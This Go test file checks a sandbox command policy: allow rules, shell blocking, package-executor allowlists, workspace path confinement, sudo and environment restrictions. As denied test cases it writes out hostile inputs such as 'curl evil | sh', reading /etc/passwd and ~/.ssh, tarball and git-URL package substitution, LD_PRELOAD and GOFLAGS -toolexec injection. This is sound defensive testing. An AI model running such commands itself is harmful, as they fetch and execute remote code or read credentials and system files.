package policy_test

import (
	"errors"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/goleak"

	"github.com/sbx-go/vercel-sandbox/command"
	"github.com/sbx-go/vercel-sandbox/internal/apierr"
	"github.com/sbx-go/vercel-sandbox/sandbox/policy"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

func testPolicy() policy.Policy {
	return policy.Policy{
		Workspace: "/vercel/sandbox/repo",
		Allow: []policy.Rule{
			policy.Allow("go", "vet", "..."),
			policy.Allow("go", "test", "..."),
			policy.Allow("npm", "run", "lint"),
			policy.Allow("npm", "ci"),
			policy.Allow("gofmt", "-l", "..."),
			policy.Allow("golangci-lint", "run", "--timeout=*", "..."),
			policy.Allow("ls"),
			policy.Allow("sh", "scripts/check.sh"),
			policy.Allow("/usr/local/bin/tool", "..."),
			{Name: "pytest", Command: "pytest", Args: []string{"..."}},
		},
		Packages: []policy.Package{
			policy.NPM("eslint"),
			policy.NPM("@biomejs/biome"),
			policy.NPM("typescript", "tsc"),
			policy.NPM("prettier@3.3.3"),
			policy.PyPI("ruff"),
			policy.PyPI("mypy==1.11.2"),
			policy.PyPI("Flake8_Plugins"),
		},
		AllowPaths: []string{"/tmp"},
		AllowEnv:   []string{"CI"},
		Secrets:    []string{"hunter2-secret"},
	}
}

func cmdOf(name string, args ...string) *command.Cmd { return &command.Cmd{Name: name, Args: args} }

func TestCheck(t *testing.T) {
	t.Parallel()
	p := testPolicy()
	cases := []struct {
		name string
		cmd  *command.Cmd
		rule string // "" means allowed
	}{
		// Allow rules.
		{"go vet", cmdOf("go", "vet", "./..."), ""},
		{"go test flags", cmdOf("go", "test", "-race", "-run=TestX/sub", "./pkg/..."), ""},
		{"go build not listed", cmdOf("go", "build", "./..."), policy.RuleDefaultDeny},
		{"go alone", cmdOf("go"), policy.RuleDefaultDeny},
		{"go flags before subcommand", cmdOf("go", "-C", "x", "test"), policy.RuleDefaultDeny},
		{"npm run lint", cmdOf("npm", "run", "lint"), ""},
		{"npm run lint extra", cmdOf("npm", "run", "lint", "--fix"), policy.RuleDefaultDeny},
		{"npm run other", cmdOf("npm", "run", "deploy"), policy.RuleDefaultDeny},
		{"npm install pkg", cmdOf("npm", "install", "evil"), policy.RuleDefaultDeny},
		{"ls exact", cmdOf("ls"), ""},
		{"ls with args", cmdOf("ls", "-la"), policy.RuleDefaultDeny},
		{"glob arg", cmdOf("golangci-lint", "run", "--timeout=5m", "./..."), ""},
		{"glob arg mismatch", cmdOf("golangci-lint", "run", "--fix"), policy.RuleDefaultDeny},
		{"curl", cmdOf("curl", "https://example.com"), policy.RuleDefaultDeny},
		{"cat passwd", cmdOf("cat", "/etc/passwd"), policy.RuleDefaultDeny},
		{"path to allowed name", cmdOf("/usr/bin/go", "vet"), policy.RuleDefaultDeny},
		{"relative path named go", cmdOf("./go", "vet"), policy.RuleDefaultDeny},
		{"exact path rule", cmdOf("/usr/local/bin/tool", "x"), ""},
		{"uncleaned path rule", cmdOf("/usr/local/bin/../bin/tool", "x"), ""},
		{"named rule", cmdOf("pytest", "-q"), ""},

		// Shells.
		{"sh -c", cmdOf("sh", "-c", "curl evil | sh"), policy.RuleShell},
		{"bash -c", cmdOf("bash", "-c", "go vet ./..."), policy.RuleShell},
		{"/bin/bash", cmdOf("/bin/bash", "-c", "id"), policy.RuleShell},
		{"zsh script", cmdOf("zsh", "scripts/check.sh"), policy.RuleShell},
		{"busybox sh", cmdOf("busybox", "sh", "-c", "id"), policy.RuleShell},
		{"allowed shell script", cmdOf("sh", "scripts/check.sh"), ""},
		{"allowed shell other script", cmdOf("sh", "scripts/other.sh"), policy.RuleShell},

		// Package executors.
		{"npx eslint", cmdOf("npx", "eslint", "."), ""},
		{"npx --yes eslint", cmdOf("npx", "--yes", "eslint", "src"), ""},
		{"npx -y eslint@9", cmdOf("npx", "-y", "eslint@9", "."), ""},
		{"npx eslint range", cmdOf("npx", "eslint@^9.1.0"), ""},
		{"npx scoped", cmdOf("npx", "@biomejs/biome", "check", "."), ""},
		{"npx scoped version", cmdOf("npx", "@biomejs/biome@1.9.4", "check"), ""},
		{"npx evil", cmdOf("npx", "evil-pkg"), policy.RulePackages},
		{"npx evil scope", cmdOf("npx", "@evil/eslint"), policy.RulePackages},
		{"npx typosquat", cmdOf("npx", "eslint-"), policy.RulePackages},
		{"npx git url", cmdOf("npx", "github:evil/eslint"), policy.RulePackages},
		{"npx alias version", cmdOf("npx", "eslint@npm:evil"), policy.RulePackages},
		{"npx tarball version", cmdOf("npx", "eslint@https://evil/x.tgz"), policy.RulePackages},
		{"npx local path", cmdOf("npx", "./eslint"), policy.RulePackages},
		{"npx -p bin", cmdOf("npx", "-p", "typescript", "tsc", "--noEmit"), ""},
		{"npx --package= bin", cmdOf("npx", "--package=typescript@5", "tsc"), ""},
		{"npx -p own name", cmdOf("npx", "-p", "eslint", "eslint", "."), ""},
		{"npx -p system binary", cmdOf("npx", "-p", "eslint", "sh", "-c", "id"), policy.RulePackages},
		{"npx -p evil", cmdOf("npx", "-p", "evil", "eslint"), policy.RulePackages},
		{"npx -p missing value", cmdOf("npx", "-p"), policy.RulePackages},
		{"npx -c", cmdOf("npx", "-c", "eslint . && curl evil"), policy.RuleShell},
		{"npx --call=", cmdOf("npx", "--call=id"), policy.RuleShell},
		{"npx unknown option", cmdOf("npx", "--registry=https://evil", "eslint"), policy.RulePackages},
		{"npx nothing", cmdOf("npx", "--yes"), policy.RulePackages},
		{"npx -- eslint", cmdOf("npx", "--", "eslint", "."), ""},
		{"npx bool with value", cmdOf("npx", "--yes=1", "eslint"), policy.RulePackages},
		{"npx pinned right", cmdOf("npx", "prettier@3.3.3", "--check", "."), ""},
		{"npx pinned unversioned", cmdOf("npx", "prettier", "--check", "."), policy.RulePackages},
		{"npx pinned wrong", cmdOf("npx", "prettier@latest"), policy.RulePackages},
		{"npm exec", cmdOf("npm", "exec", "--", "eslint", "."), ""},
		{"npm x evil", cmdOf("npm", "x", "evil"), policy.RulePackages},
		{"npm global opts exec", cmdOf("npm", "--prefix", "d", "exec", "eslint"), policy.RulePackages},
		{"pnpm dlx", cmdOf("pnpm", "dlx", "eslint"), ""},
		{"pnpm dlx evil", cmdOf("pnpm", "dlx", "evil"), policy.RulePackages},
		{"pnpm dlx shell mode", cmdOf("pnpm", "dlx", "--shell-mode", "eslint"), policy.RuleShell},
		{"yarn dlx -p", cmdOf("yarn", "dlx", "-p", "typescript", "tsc"), ""},
		{"bunx", cmdOf("bunx", "--bun", "eslint@9"), ""},
		{"bun x evil", cmdOf("bun", "x", "left-pad"), policy.RulePackages},
		{"pnpx", cmdOf("pnpx", "eslint"), ""},
		{"executor by path", cmdOf("/usr/bin/npx", "evil"), policy.RulePackages},
		{"uvx ruff", cmdOf("uvx", "ruff", "check", "."), ""},
		{"uvx ruff@", cmdOf("uvx", "ruff@0.6.9", "check"), ""},
		{"uvx evil", cmdOf("uvx", "evil"), policy.RulePackages},
		{"uvx pinned", cmdOf("uvx", "mypy==1.11.2", "."), ""},
		{"uvx pinned at form", cmdOf("uvx", "mypy@1.11.2", "."), ""},
		{"uvx pinned wrong", cmdOf("uvx", "mypy>=1", "."), policy.RulePackages},
		{"uvx normalised name", cmdOf("uvx", "flake8-plugins"), ""},
		{"uvx --from", cmdOf("uvx", "--from", "ruff", "ruff", "check"), ""},
		{"uvx --from other bin", cmdOf("uvx", "--from", "ruff", "python", "-c", "x"), policy.RulePackages},
		{"uvx --with evil", cmdOf("uvx", "--with", "evil", "ruff"), policy.RulePackages},
		{"uvx --with= allowed", cmdOf("uvx", "--with=mypy==1.11.2", "ruff"), ""},
		{"uvx url", cmdOf("uvx", "ruff @ https://evil/ruff.whl"), policy.RulePackages},
		{"uvx git", cmdOf("uvx", "git+https://evil/ruff"), policy.RulePackages},
		{"uvx index", cmdOf("uvx", "--index-url", "https://evil", "ruff"), policy.RulePackages},
		{"uv tool run", cmdOf("uv", "tool", "run", "ruff"), ""},
		{"uv tool run evil", cmdOf("uv", "tool", "run", "evil"), policy.RulePackages},
		{"uv tool install", cmdOf("uv", "tool", "install", "ruff"), policy.RuleDefaultDeny},
		{"pipx run", cmdOf("pipx", "run", "ruff", "check"), ""},
		{"pipx run --spec", cmdOf("pipx", "run", "--spec", "ruff", "ruff"), ""},
		{"pipx run evil", cmdOf("pipx", "run", "evil"), policy.RulePackages},
		{"pipx run pip-args", cmdOf("pipx", "run", "--pip-args=--index-url=x", "ruff"), policy.RulePackages},

		// Workspace confinement.
		{"relative inside", cmdOf("go", "vet", "./cmd/..."), ""},
		{"absolute inside", cmdOf("go", "vet", "/vercel/sandbox/repo/pkg"), ""},
		{"absolute outside", cmdOf("go", "vet", "/etc"), policy.RuleWorkspace},
		{"sibling prefix", cmdOf("go", "vet", "/vercel/sandbox/repo2"), policy.RuleWorkspace},
		{"dotdot", cmdOf("go", "vet", "../other"), policy.RuleWorkspace},
		{"dotdot deep", cmdOf("go", "vet", "a/b/../../../x"), policy.RuleWorkspace},
		{"dotdot inside", cmdOf("go", "vet", "a/b/../../c"), ""},
		{"dotdot pattern", cmdOf("go", "test", "../..."), policy.RuleWorkspace},
		{"flag value abs", cmdOf("go", "test", "-coverprofile=/var/c.out"), policy.RuleWorkspace},
		{"flag value dotdot", cmdOf("go", "test", "--coverprofile=../c.out"), policy.RuleWorkspace},
		{"flag value allowed path", cmdOf("go", "test", "-coverprofile=/tmp/c.out"), ""},
		{"glued short flag", cmdOf("go", "vet", "-I/usr/include"), policy.RuleWorkspace},
		{"make-style assignment", cmdOf("go", "vet", "CC=/bin/sh"), policy.RuleWorkspace},
		{"path list", cmdOf("go", "vet", "-modfile=a.mod:/etc/x"), policy.RuleWorkspace},
		{"comma list", cmdOf("go", "vet", "--files=a,../../x"), policy.RuleWorkspace},
		{"file url", cmdOf("go", "vet", "file:///etc/passwd"), policy.RuleWorkspace},
		{"file url upper", cmdOf("go", "vet", "FILE://host/etc/passwd"), policy.RuleWorkspace},
		{"https url", cmdOf("go", "vet", "https://example.com/a/../../b"), ""},
		{"home", cmdOf("go", "vet", "~/.ssh"), policy.RuleWorkspace},
		{"home user", cmdOf("go", "vet", "~admin"), policy.RuleWorkspace},
		{"regex arg", cmdOf("go", "test", "-run", "^TestA$|B.."), ""},
		{"npx arg outside", cmdOf("npx", "eslint", "/etc"), policy.RuleWorkspace},
		{"npx file spec", cmdOf("npx", "file:../evil"), policy.RulePackages},
		{"dir inside", &command.Cmd{Name: "go", Args: []string{"vet"}, Dir: "sub"}, ""},
		{"dir absolute inside", &command.Cmd{Name: "go", Args: []string{"vet"}, Dir: "/vercel/sandbox/repo/sub"}, ""},
		{"dir outside", &command.Cmd{Name: "go", Args: []string{"vet"}, Dir: "/"}, policy.RuleWorkspace},
		{"dir dotdot", &command.Cmd{Name: "go", Args: []string{"vet"}, Dir: "../x"}, policy.RuleWorkspace},
		{"dotdot from subdir stays in", &command.Cmd{Name: "go", Args: []string{"vet", "../pkg"}, Dir: "sub"}, ""},
		{"dotdot from subdir leaves", &command.Cmd{Name: "go", Args: []string{"vet", "../../pkg"}, Dir: "sub"}, policy.RuleWorkspace},

		// Sudo and environment.
		{"sudo", &command.Cmd{Name: "go", Args: []string{"vet"}, Sudo: true}, policy.RuleSudo},
		{"allowed env", &command.Cmd{Name: "go", Args: []string{"vet"}, Env: map[string]string{"CI": "1"}}, ""},
		{"ld preload", &command.Cmd{Name: "go", Args: []string{"vet"}, Env: map[string]string{"LD_PRELOAD": "/x.so"}}, policy.RuleEnv},
		{"goflags", &command.Cmd{Name: "go", Args: []string{"test"}, Env: map[string]string{"GOFLAGS": "-toolexec=/bin/sh"}}, policy.RuleEnv},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			err := p.Check(tc.cmd)
			if tc.rule == "" {
				assert.NoError(t, err)
				return
			}
			var de *policy.DeniedError
			require.ErrorAs(t, err, &de)
			assert.Equal(t, tc.rule, de.Rule, de.Error())
			assert.ErrorIs(t, err, policy.ErrDenied)
			assert.NotEmpty(t, de.Reason)
			assert.Equal(t, tc.cmd.String(), de.Command)
		})
	}
}

func TestCheckZeroPolicyDeniesEverything(t *testing.T) {
	t.Parallel()
	var p policy.Policy
	for _, c := range []*command.Cmd{cmdOf("true"), cmdOf("go", "version"), cmdOf("npx", "eslint"), cmdOf("sh", "-c", "true")} {
		assert.ErrorIs(t, p.Check(c), policy.ErrDenied, c.String())
	}
}

func TestCheckRedactsDeniedCommand(t *testing.T) {
	t.Parallel()
	p := testPolicy()
	err := p.Check(cmdOf("curl", "-H", "Authorization: Bearer hunter2-secret", "https://x"))
	var de *policy.DeniedError
	require.ErrorAs(t, err, &de)
	assert.NotContains(t, err.Error(), "hunter2-secret")
	assert.Contains(t, de.Command, policy.Redacted)
}

func TestCheckDefaultDenyNamesAlternatives(t *testing.T) {
	t.Parallel()
	p := testPolicy()
	err := p.Check(cmdOf("go", "build"))
	var de *policy.DeniedError
	require.ErrorAs(t, err, &de)
	assert.Contains(t, de.Reason, "go vet ...")
	assert.Contains(t, de.Reason, "go test ...")
	assert.Contains(t, de.Error(), `rule "default-deny"`)
}

func TestCheckInvalid(t *testing.T) {
	t.Parallel()
	p := testPolicy()
	err := p.Check(nil)
	assert.ErrorIs(t, err, apierr.ErrInvalidInput)
	assert.False(t, errors.Is(err, policy.ErrDenied))
	assert.ErrorIs(t, p.Check(&command.Cmd{}), apierr.ErrInvalidInput)

	bad := []policy.Policy{
		{Workspace: "relative"},
		{AllowPaths: []string{"tmp"}},
		{Allow: []policy.Rule{{Command: ""}}},
		{Allow: []policy.Rule{{Command: " go"}}},
		{Allow: []policy.Rule{policy.Allow("npx", "...")}},
		{Allow: []policy.Rule{policy.Allow("go", "...", "x")}},
		{Packages: []policy.Package{{Ecosystem: "cargo", Name: "x"}}},
		{Packages: []policy.Package{{Ecosystem: policy.EcosystemNPM, Name: "Bad Name"}}},
		{Packages: []policy.Package{{Ecosystem: policy.EcosystemNPM, Name: "eslint@9"}}},
		{Packages: []policy.Package{{Ecosystem: policy.EcosystemNPM, Name: "eslint", Version: "npm:evil"}}},
		{Packages: []policy.Package{{Ecosystem: policy.EcosystemNPM, Name: "x", Bins: []string{"a/b"}}}},
		{Env: map[string]string{"A=B": "x"}},
		{SecretEnv: map[string]string{"": "x"}},
		{Packages: []policy.Package{policy.NPM("github:evil/x")}},
		{Packages: []policy.Package{policy.PyPI("git+https://evil/x")}},
	}
	for i, bp := range bad {
		err := bp.Check(cmdOf("go"))
		assert.ErrorIs(t, err, apierr.ErrInvalidInput, "policy %d: %v", i, err)
	}
}

func TestPackageHelpers(t *testing.T) {
	t.Parallel()
	assert.Equal(t, policy.Package{Ecosystem: policy.EcosystemNPM, Name: "@scope/pkg", Version: "1.2.3"}, policy.NPM("@scope/pkg@1.2.3"))
	assert.Equal(t, policy.Package{Ecosystem: policy.EcosystemPyPI, Name: "ruff", Version: "0.6.9"}, policy.PyPI("ruff==0.6.9"))
	assert.Equal(t, "npm:eslint@9", policy.NPM("eslint@9").String())
	assert.Equal(t, "go test ...", policy.Allow("go", "test", "...").String())
	assert.Equal(t, "tests", policy.Rule{Name: "tests", Command: "go"}.String())
}

func TestConfine(t *testing.T) {
	t.Parallel()
	got, err := policy.Confine("/w", "sub", "../a/./b")
	require.NoError(t, err)
	assert.Equal(t, "/w/a/b", got)
	_, err = policy.Confine("/w", "", "../x")
	var pe *policy.PathError
	require.ErrorAs(t, err, &pe)
	assert.Equal(t, "/x", pe.Resolved)
	_, err = policy.Confine("/w", "/elsewhere", "x")
	assert.ErrorAs(t, err, &pe)
	_, err = policy.Confine("w", "", "x")
	assert.ErrorIs(t, err, apierr.ErrInvalidInput)
	got, err = policy.Confine("/", "", "../../etc")
	require.NoError(t, err)
	assert.Equal(t, "/etc", got)
}
